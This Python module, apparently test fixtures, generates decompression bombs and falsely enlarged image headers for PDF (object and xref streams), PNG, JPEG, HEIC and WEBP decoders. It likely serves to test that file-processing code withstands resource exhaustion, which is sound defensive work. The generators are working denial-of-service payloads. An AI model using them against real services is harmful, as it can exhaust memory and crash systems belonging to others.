"""Files made to break whoever opens them, each from a few bytes: one for each decoder, and more for PDF."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache

from PIL import Image

# What a kilobyte becomes a megabyte of.
BLANKS = b" " * 1024 * 1024


def _deflated(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(BLANKS) for _ in range(megabytes)) + packer.flush()


def _pdf(objects: list[bytes], trailer: Callable[[list[int], int], bytes]) -> bytes:
    out, places = io.BytesIO(b"%PDF-1.7\n"), []
    out.seek(0, io.SEEK_END)
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(trailer(places, start))
    return out.getvalue()


def _stream(about: bytes, data: bytes) -> bytes:
    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (about, len(data), data)


@cache
def pdf_object_stream(megabytes: int = 700) -> bytes:
    """The catalogue is in an object stream that unpacks to so many megabytes of blanks."""
    objects = [_stream(b"/Type /ObjStm /N 1 /First %d" % (megabytes * len(BLANKS) - 64), _deflated(megabytes))]

    def trailer(places: list[int], start: int) -> bytes:
        rows = struct.pack("!BIH", 0, 0, 65535) + struct.pack("!BIH", 1, places[0], 0)
        # Objects 2 and 3 are in object stream 1; 4 is this table.
        rows += struct.pack("!BIH", 2, 1, 0) * 2 + struct.pack("!BIH", 1, start, 0)
        table = _stream(b"/Type /XRef /Size 5 /W [1 4 2] /Root 2 0 R", zlib.compress(rows))
        return b"4 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)

    return _pdf(objects, trailer)


@cache
def pdf_xref_stream(megabytes: int = 700) -> bytes:
    """The table of objects itself unpacks to so many megabytes."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    rows = megabytes * len(BLANKS) // 7

    def trailer(places: list[int], start: int) -> bytes:
        table = _stream(b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % rows, _deflated(megabytes))
        return b"3 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)

    return _pdf(objects, trailer)


def png(width: int = 40_000, height: int = 40_000) -> bytes:
    """Blank lines of an enormous picture."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))

    header = struct.pack("!IIBBBBB", width, height, 8, 6, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", _deflated(300)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def _small(picture_format: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64), "red").save(out, picture_format)
    return out.getvalue()


def jpeg(side: int = 65_000) -> bytes:
    """A small picture that says it is enormous."""
    data = bytearray(_small("JPEG"))
    place = data.index(b"\xff\xc0") + 5
    data[place : place + 4] = struct.pack("!HH", side, side)
    return bytes(data)


def heic(side: int = 30_000) -> bytes:
    """A small picture whose properties say that it is enormous."""
    data = bytearray(_small("HEIF"))
    place = data.index(b"ispe") + 8
    data[place : place + 8] = struct.pack("!II", side, side)
    return bytes(data)


def webp(side: int = 16_383) -> bytes:
    """A lossless picture of the largest size there is, with next to nothing in it."""
    bits = (side - 1) | (side - 1) << 14
    body = b"\x2f" + struct.pack("<I", bits) + b"\0" * 64
    chunk = b"VP8L" + struct.pack("<I", len(body)) + body
    chunk += b"\0" * (len(chunk) % 2)
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk


BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "PDF object stream": ("PDF", pdf_object_stream),
    "PDF xref stream": ("PDF", pdf_xref_stream),
    "PNG": ("PNG", png),
    "JPEG": ("JPEG", jpeg),
    "WEBP": ("WEBP", webp),
    "HEIC": ("HEIF", heic),
}
